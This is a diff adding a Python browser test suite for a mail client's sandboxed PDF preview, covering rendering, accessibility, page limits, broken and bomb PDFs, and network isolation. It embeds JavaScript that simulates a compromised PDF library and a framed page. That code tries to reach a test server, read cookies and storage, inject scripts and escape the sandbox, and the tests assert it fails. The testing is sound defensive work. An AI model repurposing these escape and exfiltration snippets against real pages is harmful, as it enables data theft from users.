@@ -1,0 +1,302 @@
+"""PDF files in the pages: drawn by a worker without an origin, which reaches neither the pages nor the network."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Iterator
+from contextlib import contextmanager
+
+import pytest
+
+from tests.support.browser.accessibility import Theme, find_violations, shown_in
+from tests.support.browser.page import ESCAPE
+from tests.support.extension.hostile_mails import counting_server
+from tests.support.extension.mail_letters import file, mail, multipart, text
+from tests.support.pages.driver import MailPages, named
+from tests.support.pages.pdf_files import bomb_pdf, endless_pdf, locked_pdf, pdf, reaching_pdfs
+from tests.support.pages.received import deliver, encrypted, pages, stack
+from webbridge.demo.stack import DemoStack
+
+__all__ = ["pages", "stack"]
+
+pytestmark = [pytest.mark.browser, pytest.mark.in_turn]
+
+THEMES: tuple[Theme, ...] = ("light", "dark")
+WIDTHS = (390, 1280)
+CLOSED = "() => document.querySelector('dialog') === null && document.querySelector('iframe') === null"
+SCRIPTS = "() => [...document.scripts].map(({ src }) => src.split('/').at(-1))"
+WIDEST = "() => Math.max(...[...document.querySelectorAll('.pdf-page > canvas')].map(({ width }) => width))"
+SHOW = "(number) => document.querySelectorAll('.pdf-page')[number - 1].scrollIntoView({ block: 'center' })"
+# The number of dark pixels of the first drawn page.
+INK = """() => {
+  const [shown] = document.querySelectorAll(".pdf-page > canvas");
+  const { width, height } = shown;
+  const context = new OffscreenCanvas(width, height).getContext("2d");
+  context.drawImage(shown, 0, 0);
+  const { data } = context.getImageData(0, 0, width, height);
+  return data.reduce((count, one, at) => count + (at % 4 === 0 && one < 128 ? 1 : 0), 0);
+}"""
+# Restored by `RESTORE`, as everything that a test replaces in the page.
+SHORT_TIMES = """() => {
+  const real = window.setTimeout;
+  window.restore = () => { window.setTimeout = real; };
+  window.setTimeout = (act, milliseconds, ...given) =>
+    real(act, milliseconds === 20000 ? 3000 : milliseconds, ...given);
+}"""
+RESTORE = "() => window.restore()"
+# A library that somebody has taken over. It tries to reach others, and tells as the words of a page what it got.
+HOSTILE_LIBRARY = """
+const server = SERVER;
+const tries = {
+  fetch: () => fetch(server + "/fetch", { mode: "no-cors" }),
+  request: () => new Promise((resolve, reject) => {
+    const request = new XMLHttpRequest();
+    Object.assign(request, { onload: resolve, onerror: reject });
+    request.open("GET", server + "/request");
+    request.send();
+  }),
+  socket: () => new Promise((resolve, reject) => {
+    const socket = new WebSocket(server.replace("http", "ws") + "/socket");
+    Object.assign(socket, { onopen: resolve, onerror: reject });
+  }),
+  events: () => new Promise((resolve, reject) => {
+    const source = new EventSource(server + "/events");
+    Object.assign(source, { onopen: resolve, onerror: reject });
+  }),
+  script: () => importScripts(server + "/script"),
+  module: () => import(server + "/module"),
+  font: () => new FontFace("a", `url(${server}/font)`).load(),
+  evaluated: () => eval("1"),
+  worker: () => new Worker(URL.createObjectURL(new Blob([""]))),
+  database: () => new Promise((resolve, reject) => {
+    Object.assign(indexedDB.open("sealwax"), { onsuccess: resolve, onerror: reject });
+  }),
+  caches: () => caches.keys(),
+};
+onmessage = async ({ ports: [port] }) => {
+  const reached = [];
+  for (const [name, act] of Object.entries(tries)) {
+    await Promise.resolve().then(act).then(() => reached.push(name), () => {});
+  }
+  port.onmessage = () => {
+    const canvas = new OffscreenCanvas(10, 10);
+    canvas.getContext("2d");
+    const bitmap = canvas.transferToImageBitmap();
+    port.postMessage({ type: "drawn", page: 1, bitmap, text: JSON.stringify({ origin, reached }) }, [bitmap]);
+  };
+  port.postMessage({ type: "ready" });
+  port.postMessage({ type: "opened", pages: 1, width: 100, height: 100 });
+};
+"""
+# In the place of the library, which the browser itself compares with its hash.
+REPLACE_LIBRARY = """(code) => {
+  const real = window.fetch;
+  window.restore = () => { window.fetch = real; };
+  window.fetch = async (url, options) => {
+    return String(url).endsWith("pdf_worker.js") ? new Response(code) : real(url, options);
+  };
+}"""
+HOLD_LIBRARY = """() => {
+  const real = window.fetch;
+  const held = new Promise((resolve) => { window.release = resolve; });
+  window.restore = () => { window.fetch = real; };
+  window.fetch = async (url, options) => {
+    const isLibrary = String(url).endsWith("pdf_worker.js");
+    if (isLibrary) { window.isAsked = true; await held; }
+    const answer = await real(url, options);
+    if (isLibrary) setTimeout(() => { window.isGiven = true; }, 500);
+    return answer;
+  };
+}"""
+TRIES_IN_FRAME = """async (server) => {
+  const reached = [];
+  const attempt = async (name, act) => { try { await act(); reached.push(name); } catch { /* refused */ } };
+  await attempt("parent", () => parent.document.title);
+  await attempt("top", () => { top.location.href = server + "/top"; });
+  await attempt("storage", () => localStorage.length);
+  await attempt("cookie", () => document.cookie);
+  await attempt("fetch", () => fetch(server + "/fetch", { mode: "no-cors" }));
+  const image = document.createElement("img");
+  image.src = server + "/image";
+  const script = document.createElement("script");
+  await attempt("script", () => {
+    script.append("window.wasRun = true");
+    document.documentElement.append(image, script);
+    if (!window.wasRun) throw new Error("refused");
+  });
+  await attempt("window", () => {
+    if (!window.open(server + "/window")) throw new Error("refused");
+  });
+  return reached;
+}"""
+
+
+def receive(pages: MailPages, stack: DemoStack, *files: bytes, type: str = "application/pdf") -> None:
+    """Deliver a message with these files, and open it."""
+    parts = [file(f"plan{number}.pdf", type, data) for number, data in enumerate(files, 1)]
+    message = mail(multipart("mixed", text("See the plan."), *parts))
+    pages.open_message(deliver(stack, encrypted(stack.accounts[0], message)))
+
+
+def preview(pages: MailPages, row: int = 1) -> None:
+    """Ask for the preview of a file of the open message."""
+    pages.page.click(f"[data-test=attachment]:nth-of-type({row}) {named('preview-attachment')}")
+    pages.page.wait_for_selector(named("preview"))
+
+
+def close(pages: MailPages) -> None:
+    pages.page.press(ESCAPE)
+    pages.page.wait_for(CLOSED)
+
+
+@contextmanager
+def replaced(pages: MailPages, function: str, *given: str) -> Iterator[None]:
+    """Something in the page is replaced during the block."""
+    pages.page.js(function, *given)
+    yield
+    pages.page.js(RESTORE)
+
+
+def problem(pages: MailPages) -> str:
+    """The sentence for a file that is not shown."""
+    selector = named("pdf-problem")
+    pages.page.wait_for(f"() => document.querySelector('{selector}').textContent !== ''")
+    return pages.page.text(selector)
+
+
+def words(pages: MailPages) -> str:
+    """The words of the first page that is drawn."""
+    selector = named("pdf-words")
+    pages.page.wait_for(f"() => document.querySelector('{selector}') !== null")
+    found: str = pages.page.js(f"() => document.querySelector('{selector}').textContent")
+    return found
+
+
+def test_the_pages_of_a_pdf_are_shown_with_their_words_and_escape_leaves_nothing(
+    pages: MailPages, stack: DemoStack
+) -> None:
+    receive(pages, stack, pdf("The first page", "The second page"))
+    assert "pdf_view.js" not in pages.page.js(SCRIPTS), "it is loaded with the first preview"
+    preview(pages)
+    assert words(pages) == "The first page"
+    assert pages.page.text(named("pdf-status")) == "2 pages"
+    assert pages.page.js(INK) > 100
+    assert pages.page.js("() => document.querySelector('iframe').getAttribute('sandbox')") == "allow-scripts"
+    pages.page.js(SHOW, 2)
+    pages.page.wait_for_text("The second page", selector=named("pdf-pages"))
+    before = pages.page.js(WIDEST)
+    pages.page.click(named("pdf-larger"))
+    pages.page.wait_for(f"(before) => ({WIDEST})() > 1.4 * before", before)
+    close(pages)
+    assert pages.page.js("() => document.activeElement.dataset.test") == "preview-attachment"
+    assert "pdf_view.js" in pages.page.js(SCRIPTS)
+
+
+def test_a_long_pdf_is_drawn_where_it_is_looked_at(pages: MailPages, stack: DemoStack) -> None:
+    receive(pages, stack, pdf(*(f"Page {number}" for number in range(1, 61))), type="application/octet-stream")
+    preview(pages)
+    words(pages)
+    assert pages.page.text(named("pdf-status")) == "60 pages"
+    assert pages.page.js("() => document.querySelectorAll('.pdf-page').length") == 60
+    for number in (12, 24, 36, 48, 60):
+        pages.page.js(SHOW, number)
+        pages.page.wait_for_text(f"Page {number}", selector=named("pdf-pages"))
+    assert pages.page.js("() => document.querySelectorAll('.pdf-page > canvas').length") <= 12
+    close(pages)
+
+
+@pytest.mark.thorough
+def test_the_preview_of_a_pdf_is_sound_in_every_size_and_theme(pages: MailPages, stack: DemoStack) -> None:
+    receive(pages, stack, pdf("The first page", "The second page"))
+    preview(pages)
+    words(pages)
+    wrong: list[str] = []
+    for theme in THEMES:
+        with shown_in(pages.page, theme):
+            for width in WIDTHS:
+                pages.page.set_viewport(width, 844)
+                found = find_violations(pages.page) + (["sideways"] if pages.page.overflows_sideways() else [])
+                wrong.extend(f"{theme}, {width} px: {one}" for one in found)
+    assert wrong == []
+    close(pages)
+
+
+def test_the_first_five_hundred_pages_are_shown(pages: MailPages, stack: DemoStack) -> None:
+    receive(pages, stack, pdf(*(f"Page {number}" for number in range(501))))
+    preview(pages)
+    words(pages)
+    assert pages.page.text(named("pdf-status")).startswith("501 pages The first 500 are shown.")
+    assert pages.page.js("() => document.querySelectorAll('.pdf-page').length") == 500
+    close(pages)
+
+
+def test_a_pdf_that_cannot_be_shown_says_so(pages: MailPages, stack: DemoStack) -> None:
+    receive(pages, stack, locked_pdf(), b"%PDF-1.7 plan", pdf("Cut")[:200], b"<html>No PDF</html>" * 1000)
+    preview(pages)
+    assert "protected by a password" in problem(pages)
+    close(pages)
+    for row in (2, 3, 4):
+        preview(pages, row)
+        assert problem(pages) == "This PDF cannot be shown here. You can save it."
+        close(pages)
+
+
+@pytest.mark.parametrize(
+    "some",
+    [{"a script on opening", "a picture elsewhere"}, pytest.param(set(reaching_pdfs("")), marks=pytest.mark.thorough)],
+    ids=["few", "all"],
+)
+def test_nothing_in_a_pdf_reaches_the_network_or_runs(pages: MailPages, stack: DemoStack, some: set[str]) -> None:
+    with counting_server() as server:
+        files = {name: data for name, data in reaching_pdfs(server.url).items() if name in some}
+        receive(pages, stack, *files.values())
+        for row, name in enumerate(files, 1):
+            preview(pages, row)
+            assert words(pages).startswith("Shown"), name
+            pages.page.click(".pdf-page > canvas")
+            close(pages)
+        assert server.asked == []
+
+
+def test_a_library_that_was_taken_over_reaches_nothing(pages: MailPages, stack: DemoStack) -> None:
+    pages.page.browser.expect_error(
+        "Content.Security|violat|Refused|blocked|may not load|sandbox|Unsafe attempt|WebSocket|establish a connection"
+    )
+    receive(pages, stack, pdf("Secret"))
+    with counting_server() as server:
+        library = HOSTILE_LIBRARY.replace("SERVER", json.dumps(server.url))
+        with replaced(pages, REPLACE_LIBRARY, library):
+            preview(pages)
+            assert json.loads(words(pages)) == {"origin": "null", "reached": []}
+        frame = pages.page.wait_for_frame("about:srcdoc")
+        assert frame.js(TRIES_IN_FRAME, server.url) == []
+        # A page of the server in the place of the frame could tell the server what the frame has.
+        frame.js("(server) => { location.href = server + '/place'; }", server.url)
+        close(pages)
+        assert server.asked == []
+
+
+@pytest.mark.parametrize("data", [endless_pdf(), pytest.param(bomb_pdf(300), marks=pytest.mark.thorough)])
+def test_a_pdf_without_an_end_is_given_up_and_the_page_goes_on(pages: MailPages, stack: DemoStack, data: bytes) -> None:
+    receive(pages, stack, data)
+    with replaced(pages, SHORT_TIMES):
+        preview(pages)
+        assert "takes too long" in problem(pages)
+        assert pages.page.js("() => document.querySelector('iframe')") is None
+        close(pages)
+
+
+def test_a_lock_closes_the_preview_of_a_pdf_also_one_that_is_on_its_way(pages: MailPages, stack: DemoStack) -> None:
+    receive(pages, stack, pdf("A secret"))
+    preview(pages)
+    assert words(pages) == "A secret"
+    close(pages)
+    with replaced(pages, HOLD_LIBRARY):
+        pages.page.click(named("preview-attachment"))
+        pages.page.wait_for("() => window.isAsked")
+        pages.page.js(f"() => document.querySelector('{named('lock')}').click()")
+        pages.page.wait_for_selector(named("unlock-form"))
+        pages.page.js("() => window.release()")
+        pages.page.wait_for("() => window.isGiven")
+    assert pages.page.js(CLOSED)
+    assert "A secret" not in pages.page.js("() => document.documentElement.outerHTML")
